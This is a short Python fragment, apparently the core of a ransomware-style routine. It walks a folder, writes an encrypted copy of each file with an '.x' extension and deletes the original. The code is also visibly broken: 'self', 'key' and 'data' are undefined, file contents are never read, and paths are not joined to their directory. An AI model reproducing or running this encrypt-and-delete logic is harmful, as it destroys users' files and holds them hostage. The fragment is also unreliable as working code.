import os
from cryptography.fernet import Fernet
for d, _, names in os.walk(self.folder):
    for n in names:
        open(n + ".x", "wb").write(Fernet(key).encrypt(data))
        os.remove(n)
